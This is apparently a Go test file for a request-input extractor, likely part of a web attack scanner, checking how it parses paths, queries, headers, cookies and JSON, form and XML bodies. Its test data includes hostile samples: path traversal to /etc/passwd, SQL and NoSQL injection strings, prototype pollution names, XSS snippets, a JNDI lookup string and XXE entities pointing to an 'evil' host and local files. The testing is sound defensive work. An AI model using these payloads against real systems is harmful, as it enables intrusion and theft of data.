package inspect

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"
)

// describe renders an input as "location=value", "key location=value" for
// names.
func describe(in *Input) string {
	s := in.Location() + "=" + in.Value
	if in.IsKey {
		s = "key " + s
	}
	return s
}

func extractAll(r *http.Request, body []byte, opts Options) ([]string, error) {
	var got []string
	err := Extract(r, body, opts, func(in *Input) error {
		got = append(got, describe(in))
		return nil
	})
	return got, err
}

func newRequest(method, target, contentType, body string) *http.Request {
	r := httptest.NewRequest(method, target, strings.NewReader(body))
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	return r
}

// noHeaders keeps header inputs out of tests about other sources.
var noHeaders = Options{Headers: []string{}}

func TestExtractURL(t *testing.T) {
	tests := []struct {
		name   string
		target string
		want   []string
	}{
		{
			name:   "path segments decoded once",
			target: "/api/v1/files/..%2f..%2fetc%252fpasswd",
			want:   []string{"path.1=api", "path.2=v1", "path.3=files", "path.4=../../etc%2fpasswd"},
		},
		{
			name:   "empty segments counted, not reported",
			target: "/a//b/",
			want:   []string{"path.1=a", "path.3=b"},
		},
		{
			name:   "plus is literal in a path",
			target: "/a+b",
			want:   []string{"path.1=a+b"},
		},
		{
			name:   "query values, repeats and plain names",
			target: "/?q=1%27+OR+1%3D1&tag=a&tag=b&empty=&flag",
			want:   []string{"query.q=1' OR 1=1", "query.tag=a", "query.tag=b"},
		},
		{
			name:   "bracket arrays and operators report their names",
			target: "/?a[]=1&a[]=2&user[$ne]=x&items[0][sku]=s1",
			want: []string{
				"key query.a[]=a[]", "query.a[]=1", "key query.a[]=a[]", "query.a[]=2",
				"key query.user[$ne]=user[$ne]", "query.user[$ne]=x",
				"key query.items[0][sku]=items[0][sku]", "query.items[0][sku]=s1",
			},
		},
		{
			name:   "prototype pollution names are never plain",
			target: "/?__proto__=x&constructor.prototype.admin=1",
			want: []string{
				"key query.__proto__=__proto__", "query.__proto__=x",
				"key query.constructor.prototype.admin=constructor.prototype.admin", "query.constructor.prototype.admin=1",
			},
		},
		{
			name:   "semicolons stay in values, empty pairs skipped",
			target: "/?a=1;b=2&&=v",
			want:   []string{"query.a=1;b=2", "query=v"},
		},
		{
			name:   "encoded names",
			target: "/?na%6De=%3Cscript%3E&%24where=1",
			want:   []string{"query.name=<script>", "key query.$where=$where", "query.$where=1"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := extractAll(newRequest("GET", tt.target, "", ""), nil, noHeaders)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestExtractHeadersAndCookies(t *testing.T) {
	r := newRequest("GET", "/", "", "")
	r.Host = "shop.example"
	r.Header.Set("User-Agent", "${jndi:ldap://x/a}")
	r.Header.Add("X-Forwarded-For", "1.2.3.4")
	r.Header.Add("X-Forwarded-For", "' OR 1=1--")
	r.Header.Set("Authorization", "Bearer secret")
	r.Header.Set("X-Custom", "v")
	r.Header.Add("Cookie", `sid=abc123; theme="dark"; bad name=x y`)
	r.Header.Add("Cookie", "lone;  pref[$gt]=1")

	tests := []struct {
		name string
		opts Options
		want []string
	}{
		{
			name: "default headers, no cookies",
			opts: Options{},
			want: []string{"header.User-Agent=${jndi:ldap://x/a}", "header.X-Forwarded-For=1.2.3.4", "header.X-Forwarded-For=' OR 1=1--"},
		},
		{
			name: "chosen headers and host",
			opts: Options{Headers: []string{"host", "x-custom", "Absent"}},
			want: []string{"header.Host=shop.example", "header.X-Custom=v"},
		},
		{
			name: "cookies parsed leniently",
			opts: Options{Headers: []string{}, Cookies: true},
			want: []string{
				"cookie.sid=abc123", `cookie.theme="dark"`,
				"key cookie.bad name=bad name", "cookie.bad name=x y",
				"key cookie.pref[$gt]=pref[$gt]", "cookie.pref[$gt]=1",
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := extractAll(r, nil, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestExtractBodies(t *testing.T) {
	tests := []struct {
		name        string
		contentType string
		body        string
		scanUnknown bool
		want        []string
	}{
		{
			name:        "json",
			contentType: "application/json; charset=utf-8",
			body:        `{"user":{"name":"x' OR 1=1","$where":"sleep(1)"},"ids":[1,"2"],"__proto__":{"admin":true}}`,
			want: []string{
				"body./user/name=x' OR 1=1", "key body./user/$where=$where", "body./user/$where=sleep(1)",
				"body./ids/1=2", "key body./__proto__=__proto__",
			},
		},
		{name: "json suffix", contentType: "application/problem+json", body: `{"detail":"d"}`, want: []string{"body./detail=d"}},
		{name: "json root string", contentType: "application/json", body: `"<svg onload=x>"`, want: []string{"body=<svg onload=x>"}},
		{
			name:        "form",
			contentType: "application/x-www-form-urlencoded",
			body:        "user=admin%27--&pass=x+y&role[]=a",
			want:        []string{"form.user=admin'--", "form.pass=x y", "key form.role[]=role[]", "form.role[]=a"},
		},
		{
			name:        "xml",
			contentType: "application/xml",
			body: `<?xml version="1.0"?>
<?xml-stylesheet href="http://evil/x.xsl"?>
<!DOCTYPE order [<!ENTITY % r SYSTEM "http://evil/x.dtd"> %r;]>
<order id="7" xmlns:p="urn:p">
  <p:item sku="a&amp;b">SEL<!-- split -->ECT <![CDATA[<x>]]></p:item>
  <note>  </note>
</order>`,
			want: []string{
				`xml.doctype=<?xml-stylesheet href="http://evil/x.xsl"?>`,
				`xml.doctype=<!DOCTYPE order [<!ENTITY % r SYSTEM "http://evil/x.dtd"> %r;]>`,
				"xml./order/@id=7", "xml./order/@xmlns:p=urn:p",
				"xml./order/item/@sku=a&b", "xml./order/item=SELECT <x>",
			},
		},
		{name: "text xml", contentType: "text/xml", body: `<a>b</a>`, want: []string{"xml./a=b"}},
		{name: "atom xml", contentType: "application/atom+xml", body: `<a t="1"/>`, want: []string{"xml./a/@t=1"}},
		{name: "text plain", contentType: "text/plain", body: "cat /etc/passwd", want: []string{"body=cat /etc/passwd"}},
		{name: "html not scanned by default", contentType: "text/html", body: "<b>x</b>"},
		{name: "html scanned when asked", contentType: "text/html", body: "<b>x</b>", scanUnknown: true, want: []string{"body=<b>x</b>"}},
		{name: "no content type", body: "x", scanUnknown: true, want: []string{"body=x"}},
		{name: "no content type not scanned by default", body: "x"},
		{name: "yaml scanned when asked", contentType: "application/yaml", body: "a: b", scanUnknown: true, want: []string{"body=a: b"}},
		{name: "binary never scanned", contentType: "image/png", body: "' OR 1=1", scanUnknown: true},
		{name: "octet-stream never scanned", contentType: "application/octet-stream", body: "' OR 1=1", scanUnknown: true},
		{name: "empty json body", contentType: "application/json", body: ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := newRequest("POST", "/", tt.contentType, tt.body)
			got, err := extractAll(r, []byte(tt.body), Options{Headers: []string{}, ScanUnknownBodies: tt.scanUnknown})
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
		})
	}
}

func TestExtractErrors(t *testing.T) {
	tests := []struct {
		name        string
		target      string
		contentType []string
		body        string
		lim         Limits
		wantCode    string
		wantField   string
		wantStatus  int
	}{
		{name: "query percent", target: "/?a=%zz", wantCode: CodeInvalidPercentEncoding, wantField: "query.a"},
		{name: "query name percent", target: "/?%G1=1", wantCode: CodeInvalidPercentEncoding, wantField: "query.%G1"},
		{name: "query truncated percent", target: "/?a=1%2", wantCode: CodeInvalidPercentEncoding},
		{name: "query IIS unicode escape", target: "/?a=%u0027", wantCode: CodeInvalidPercentEncoding},
		{name: "form percent", contentType: []string{"application/x-www-form-urlencoded"}, body: "a=%", wantCode: CodeMalformedForm, wantField: "form.a"},
		{name: "malformed json", contentType: []string{"application/json"}, body: `{"a":}`, wantCode: CodeMalformedJSON, wantField: "body./a"},
		{name: "json too deep", contentType: []string{"application/json"}, body: nested(33), wantCode: CodeJSONTooDeep},
		{name: "json too many keys", contentType: []string{"application/json"}, body: `{"a":1,"b":2}`, lim: Limits{MaxKeys: 1}, wantCode: CodeJSONTooManyKeys},
		{name: "json array too long", contentType: []string{"application/json"}, body: `[1,2]`, lim: Limits{MaxArrayLen: 1}, wantCode: CodeJSONArrayTooLong},
		{name: "json string too long", contentType: []string{"application/json"}, body: `["ab"]`, lim: Limits{MaxStringLen: 1}, wantCode: CodeJSONStringTooLong},
		{name: "json number too long", contentType: []string{"application/json"}, body: `[1e100]`, lim: Limits{MaxNumberLen: 4}, wantCode: CodeJSONNumberTooLong},
		{name: "json path too long", contentType: []string{"application/json"}, body: `{"abc":"x"}`, lim: Limits{MaxPathLen: 3}, wantCode: CodeJSONPathTooLong},
		{name: "duplicate key", contentType: []string{"application/json"}, body: `{"role":"u","role":"admin"}`, wantCode: CodeDuplicateKey, wantField: "body./role"},
		{name: "invalid utf8", contentType: []string{"application/json"}, body: "[\"\xff\"]", wantCode: CodeInvalidUTF8, wantField: "body./0"},
		{name: "invalid utf8 in key", contentType: []string{"application/json"}, body: "{\"a\":{\"b\":1,\"\xff\":2}}", wantCode: CodeInvalidUTF8, wantField: "body./a"},
		{name: "json utf-16", contentType: []string{"application/json; charset=utf-16"}, body: `{}`, wantCode: CodeUnsupportedMediaType, wantStatus: 415},
		{name: "xml latin-1 header", contentType: []string{"application/xml; charset=iso-8859-1"}, body: `<a/>`, wantCode: CodeUnsupportedMediaType, wantStatus: 415},
		{name: "xml latin-1 declaration", contentType: []string{"application/xml"}, body: `<?xml version="1.0" encoding="ISO-8859-1"?><a>x</a>`, wantCode: CodeUnsupportedMediaType, wantStatus: 415},
		{name: "two content types", contentType: []string{"text/plain", "application/json"}, body: `{}`, wantCode: CodeUnsupportedMediaType, wantField: "header.Content-Type", wantStatus: 415},
		{name: "unparsable content type", contentType: []string{"application/json charset"}, body: `{}`, wantCode: CodeUnsupportedMediaType, wantStatus: 415},
		{name: "malformed xml", contentType: []string{"application/xml"}, body: `<a><b></a>`, wantCode: CodeMalformedXML},
		{name: "undeclared entity", contentType: []string{"application/xml"}, body: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>`, wantCode: CodeMalformedXML, wantField: "xml./a"},
		{name: "xml two roots", contentType: []string{"application/xml"}, body: `<a/><b/>`, wantCode: CodeMalformedXML},
		{name: "xml text outside root", contentType: []string{"application/xml"}, body: `<a/>junk`, wantCode: CodeMalformedXML},
		{name: "xml no root", contentType: []string{"application/xml"}, body: `just text`, wantCode: CodeMalformedXML},
		{name: "xml too deep", contentType: []string{"application/xml"}, body: strings.Repeat("<a>", 4) + strings.Repeat("</a>", 4), lim: Limits{MaxDepth: 3}, wantCode: CodeXMLTooDeep, wantField: "xml./a/a/a"},
		{name: "xml path too long", contentType: []string{"application/xml"}, body: `<abc><defg/></abc>`, lim: Limits{MaxPathLen: 6}, wantCode: CodeXMLPathTooLong, wantField: "xml./abc"},
		{name: "multipart without boundary", contentType: []string{"multipart/form-data"}, body: "x", wantCode: CodeMalformedMultipart},
		{name: "multipart truncated", contentType: []string{"multipart/form-data; boundary=B"}, body: "--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx", wantCode: CodeMalformedMultipart},
		{name: "too many inputs", target: "/?a=1&b=2&c=3", lim: Limits{MaxInputs: 2}, wantCode: CodeTooManyInputs, wantField: "query.c"},
		{name: "too many inputs across sources", target: "/p?a=1", contentType: []string{"application/json"}, body: `["x"]`, lim: Limits{MaxInputs: 2}, wantCode: CodeTooManyInputs, wantField: "body./0"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			target := tt.target
			if target == "" {
				target = "/"
			}
			r := newRequest("POST", target, "", tt.body)
			for _, ct := range tt.contentType {
				r.Header.Add("Content-Type", ct)
			}
			_, err := extractAll(r, []byte(tt.body), Options{Limits: tt.lim, Headers: []string{}})
			checkErr(t, err, tt.wantCode, tt.wantField)
			want := tt.wantStatus
			if want == 0 {
				want = http.StatusBadRequest
			}
			if got := err.(*Error).Status; got != want {
				t.Errorf("got status %d, want %d", got, want)
			}
		})
	}
}

func TestExtractPathPercent(t *testing.T) {
	// net/url never lets an invalid escape into a parsed path, so the
	// check is exercised on the raw segment.
	e := &extractor{lim: DefaultLimits(), visit: func(*Input) error { return nil }}
	checkErr(t, e.path("/ok/%zz"), CodeInvalidPercentEncoding, "path.2")
}

func TestExtractStopsOnVisitError(t *testing.T) {
	stop := errors.New("stop")
	r := newRequest("POST", "/a/b?q=1", "application/json", `{"x":"y"}`)
	var seen []string
	err := Extract(r, []byte(`{"x":"y"}`), noHeaders, func(in *Input) error {
		seen = append(seen, in.Location())
		if in.Source == Query {
			return stop
		}
		return nil
	})
	if err != stop {
		t.Fatalf("got %v, want the visit error unchanged", err)
	}
	if want := []string{"path.1", "path.2", "query.q"}; !reflect.DeepEqual(seen, want) {
		t.Errorf("visited %q, want %q", seen, want)
	}
}

func TestSourceStrings(t *testing.T) {
	for s := Path; s <= XMLDirective; s++ {
		if got := s.String(); got == "unknown" || got == "" {
			t.Errorf("Source(%d).String() = %q", s, got)
		}
	}
	if got := Source(0).String(); got != "unknown" {
		t.Errorf("Source(0).String() = %q, want unknown", got)
	}
}

// TestExtractAPIBody: a 1.5 KB JSON order, as an API receives it.
func TestExtractAPIBody(t *testing.T) {
	r := newRequest("POST", "/api/v1/orders?dry_run=true", "application/json; charset=utf-8", "")
	r.Header.Set("User-Agent", "shop-ios/5.12.1")
	got, err := extractAll(r, []byte(apiBody), Options{})
	if err != nil {
		t.Fatal(err)
	}
	has := map[string]bool{}
	for _, s := range got {
		has[s] = true
	}
	for _, want := range []string{
		"path.1=api", "path.3=orders", "query.dry_run=true", "header.User-Agent=shop-ios/5.12.1",
		"body./customer/email=jane.doe@example.com",
		"body./customer/tags/2=b2c",
		"body./shipping_address/line2=Bâtiment B, 3e étage",
		"body./items/1/gift_message=Happy birthday! — from all of us",
		"body./metadata/referrer=https://www.example.org/blog/spring",
	} {
		if !has[want] {
			t.Errorf("missing %q", want)
		}
	}
	for _, s := range got {
		// Plain keys, numbers, booleans and null are not inputs.
		loc, _, _ := strings.Cut(s, "=")
		switch loc {
		case "body./items/0/quantity", "body./items/0/unit_price", "body./customer/marketing_opt_in", "body./delivery/instructions":
			t.Errorf("unexpected input %q", s)
		}
		if strings.HasPrefix(s, "key ") {
			t.Errorf("plain key reported: %q", s)
		}
	}
	// 3 path segments, 1 query parameter, User-Agent, Content-Type and the
	// body's 36 string values.
	if len(got) != 42 {
		t.Errorf("got %d inputs, want 42", len(got))
	}
}

func TestExtractXMLDepth(t *testing.T) {
	lim := Limits{MaxDepth: 3}
	body := `<a><b><c>x</c></b></a>`
	r := newRequest("POST", "/", "application/xml", body)
	got, err := extractAll(r, []byte(body), Options{Limits: lim, Headers: []string{}})
	if err != nil {
		t.Fatalf("depth at the limit: %v", err)
	}
	if want := []string{"xml./a/b/c=x"}; !reflect.DeepEqual(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestDefaultHeadersCanonical(t *testing.T) {
	for _, h := range DefaultHeaders {
		if c := http.CanonicalHeaderKey(h); c != h {
			t.Errorf("DefaultHeaders has %q, canonical form %q", h, c)
		}
	}
}
